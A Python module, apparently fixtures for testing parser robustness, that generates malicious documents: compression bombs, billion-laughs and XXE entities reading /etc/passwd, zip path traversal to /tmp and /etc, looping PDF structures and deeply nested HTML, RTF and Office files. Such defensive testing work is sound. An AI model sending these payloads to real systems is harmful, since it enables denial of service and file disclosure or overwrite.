"""Documents made to kill, hang or fill up whoever reads them; each kind was seen to do that to some library.

Sizes are as small as they can be and still hurt. Every maker gives the bytes of one attachment.
"""

import bz2
import gzip
import io
import lzma
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable

MB = 1 << 20
OFFICE = "application/vnd.openxmlformats-officedocument"


def zipped(members: Iterable[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=1) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


# --- PDF -------------------------------------------------------------------------------------------------------------


def pdf(objects: Iterable[bytes], root: int = 1, prev: bytes = b"") -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, table)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, root, prev, start)
    return bytes(out)


def page(contents: bytes, resources: bytes = b"", filters: bytes = b"/Filter /FlateDecode", more: bytes = b"") -> bytes:
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> "
            b"%s >> %s >>" % (resources, more),
            b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(contents), filters, contents),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def pdf_flate_bomb() -> bytes:
    return page(zlib.compress(bytes(200 * MB), 1))


def pdf_double_flate_bomb() -> bytes:
    return page(zlib.compress(zlib.compress(bytes(300 * MB), 1)), filters=b"/Filter [/FlateDecode /FlateDecode]")


def pdf_text_bomb() -> bytes:
    return page(zlib.compress(b"BT /F1 9 Tf 1 1 Td\n" + b"(many words) Tj\n" * (MB // 3) + b"ET", 1))


def pdf_huge_length() -> bytes:
    return page(b"BT ET", filters=b"").replace(b"/Length 5", b"/Length 4294967295")


def pdf_negative_length() -> bytes:
    return page(b"BT ET", filters=b"").replace(b"/Length 5", b"/Length -5")


def pdf_open_brackets() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R /X " + b"[" * 500_000 + b" >>"])


def pdf_page_tree_loop() -> bytes:
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>"])


def pdf_many_kids() -> bytes:
    kids = b"3 0 R " * 300_000
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count 300000 >>" % kids,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        ]
    )


def pdf_lying_count() -> bytes:
    return page(b"", filters=b"").replace(b"/Count 1", b"/Count 2000000000")


def pdf_loop_of_tables() -> bytes:
    made = page(b"", filters=b"")
    start = made.rindex(b"xref\n0")
    return made.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % start)


def pdf_form_calls_itself() -> bytes:
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X 6 0 R >> >> /Length 10 >>"
    made = page(b"/X Do /X Do", b"/XObject << /X 6 0 R >>", b"")
    return made.replace(b"xref\n0", b"6 0 obj\n" + form + b"\nstream\n/X Do /X Do\nendstream\nendobj\nxref\n0", 1)


def pdf_tree_of_forms() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>",
        b"<< /Length 5 >>\nstream\n/X Do\nendstream",
    ]
    for number in range(5, 25):
        calls = b"/X Do /X Do /X Do /X Do" if number < 24 else b"(leaf) Tj"
        objects.append(
            b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X %d 0 R >> >>"
            b" /Length %d >>\nstream\n%s\nendstream" % (number + 1, len(calls), calls)
        )
    return pdf(objects)


def pdf_many_annotations() -> bytes:
    one = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://a.evil-demo.com/x) >> >> "
    return page(b"", filters=b"", more=b"/Annots [%s]" % (one * 10_000))


# --- HTML ------------------------------------------------------------------------------------------------------------


def html_one_line() -> bytes:
    return b"<html>" + b"word " * MB


def html_nested_divs() -> bytes:
    return b"<html>" + b"<div>" * 100_000 + b'<a href="http://deep.evil-demo.com/x">x</a>'


def html_nested_formatting() -> bytes:
    return b"<html>" + b"<b><i><font color=red>" * 100_000


def html_many_attributes() -> bytes:
    return b"<html><a " + b"".join(b"a%d=1 " % number for number in range(300_000)) + b">"


def html_open_attribute() -> bytes:
    return b'<html><a href="' + b"x" * (8 * MB)


def html_open_declarations() -> bytes:
    return b"<html>" + b"<!" * MB


def html_open_comments() -> bytes:
    return b"<html>" + b"<!--" * (MB // 2)


def html_open_tags() -> bytes:
    return b"<html>" + b"<" * (2 * MB)


def html_nested_tables() -> bytes:
    return b"<html>" + b"<table><tr><td>" * 100_000


def html_many_links() -> bytes:
    return b"<html>" + b"".join(b'<a href="http://h%d.evil-demo.com/">x</a>' % number for number in range(20_000))


# --- Office ----------------------------------------------------------------------------------------------------------


def docx(document: bytes, more: Iterable[tuple[str, bytes]] = ()) -> bytes:
    kind = f"{OFFICE}.wordprocessingml.document.main+xml"
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    return zipped([("[Content_Types].xml", types.encode()), ("word/document.xml", document), *more])


def xlsx(sheet: bytes, strings: bytes = b"<sst/>") -> bytes:
    return zipped(
        [
            ("[Content_Types].xml", b"<Types/>"),
            ("xl/workbook.xml", b'<workbook><sheets><sheet name="S" sheetId="1"/></sheets></workbook>'),
            ("xl/sharedStrings.xml", strings),
            ("xl/worksheets/sheet1.xml", sheet),
        ]
    )


def docx_billion_laughs() -> bytes:
    entities = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 12))
    return docx(b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY e0 "lol">' + entities + b"]><d>&e11;</d>")


def docx_quadratic_entity() -> bytes:
    return docx(b'<!DOCTYPE d [<!ENTITY e "' + b"x" * 100_000 + b'">]><d>' + b"&e;" * 50_000 + b"</d>")


def docx_file_entity() -> bytes:
    return docx(b'<!DOCTYPE d [<!ENTITY e SYSTEM "file:///etc/passwd">]><d>&e; http://after.evil-demo.com/x</d>')


def docx_of_a_gigabyte() -> bytes:
    return docx(b"<d><t>" + b"a" * (150 * MB) + b"</t></d>")


def docx_deep_tables() -> bytes:
    return docx(b"<d>" + b"<tbl><tr><tc>" * 60_000)


def xlsx_far_cell() -> bytes:
    return xlsx(b'<worksheet><sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData></worksheet>')


def xlsx_many_rows() -> bytes:
    return xlsx(b"<worksheet><sheetData>" + b'<row><c t="n"><v>1</v></c></row>' * 300_000)


def xlsx_repeated_string() -> bytes:
    strings = b"<sst><si><t>" + b"x" * MB + b"</t></si></sst>"
    return xlsx(b"<worksheet><sheetData><row>" + b'<c t="s"><v>0</v></c>' * 200_000, strings)


def rtf_braces() -> bytes:
    return b"{\\rtf1" + b"{" * 300_000


def rtf_huge_binary() -> bytes:
    return b"{\\rtf1 \\bin2147483647 " + b"x" * 1000 + b"}"


def rtf_absurd_characters() -> bytes:
    return b"{\\rtf1 " + b"\\u99999999? \\u-99999999? " * 50_000 + b"}"


def rtf_large() -> bytes:
    return b"{\\rtf1 " + b"\\b word\\b0 " * (MB // 3) + b"}"


# --- containers ------------------------------------------------------------------------------------------------------


def zip_of_zips() -> bytes:
    inner = zipped([("zeros", bytes(50 * MB))])
    for _ in range(4):
        inner = zipped([(f"{number}.zip", inner) for number in range(16)])
    return inner


def zip_flat_bomb() -> bytes:
    return zipped([("zeros.txt", bytes(300 * MB))])


def zip_false_size() -> bytes:
    made = bytearray(zipped([("zeros.txt", bytes(50 * MB))]))
    for signature, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = made.index(signature)
        made[start + at : start + at + 4] = struct.pack("<I", 10)
    return bytes(made)


def zip_overlapping() -> bytes:
    """A thousand entries over one body, as in the bombs that need no nesting."""
    made = zipped([("a.txt", bytes(5 * MB))])
    start = made.index(b"PK\x01\x02")
    end = made.index(b"PK\x05\x06")
    entries = made[start:end] * 1000
    tail = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1000, 1000, len(entries), start, 0)
    return made[:start] + entries + tail


def zip_traversal() -> bytes:
    return zipped([("../../../../tmp/owned.txt", b"http://in.evil-demo.com/x"), ("/etc/owned", b"x")])


def zip_many_entries() -> bytes:
    return zipped(((f"{number}.txt", b"") for number in range(30_000)), zipfile.ZIP_STORED)


def gzip_bomb() -> bytes:
    return gzip.compress(bytes(50 * MB), 1) * 12


def bzip2_bomb() -> bytes:
    return bz2.compress(bytes(20 * MB), 1) * 15


def xz_bomb() -> bytes:
    return lzma.compress(bytes(50 * MB), preset=0) * 6


def quine_of_tars() -> bytes:
    """A tar whose member claims eight gigabytes."""
    header = bytearray(512)
    header[:5] = b"a.txt"
    header[124:136] = b"77777777777\x00"
    header[257:262] = b"ustar"
    header[148:156] = b"        "
    header[148:156] = b"%06o\x00 " % sum(header)
    return bytes(header) + b"http://in.evil-demo.com/x\n" * 1000


def tnef_of_nothing() -> bytes:
    """Attributes without length, which one library reads for ever."""
    return struct.pack("<IH", 0x223E9F78, 1) + b"\x02\x0f\x90\x06\x00\x00\x00\x00\x00" * 100_000


def ole_cycle() -> bytes:
    """A compound file whose allocation table runs in circles."""
    header = bytearray(512)
    header[:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 44, 1, 1, 0, 4096, 0, 1, 0xFFFFFFFE, 0, 0)
    struct.pack_into("<109I", header, 76, *([0] + [0xFFFFFFFF] * 108))
    table = struct.pack("<128I", *([0xFFFFFFFD, 2, 1] + [1] * 125))
    directory = "WordDocument".encode("utf-16-le").ljust(64, b"\0") + struct.pack("<HBB", 26, 2, 1) + bytes(60)
    return bytes(header) + table + directory * 4 * 2


def png_of_a_billion_pixels() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 6, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(10 * MB))) + chunk(b"IEND", b"")


_KINDS = ("pdf", "html", "docx", "xlsx", "rtf", "zip", "gzip", "bzip2", "xz", "quine", "tnef", "ole", "png")
DOCUMENTS: dict[str, Callable[[], bytes]] = {
    name.replace("_", "-"): maker
    for name, maker in dict(globals()).items()
    if callable(maker) and name.startswith(tuple(f"{kind}_" for kind in _KINDS))
}
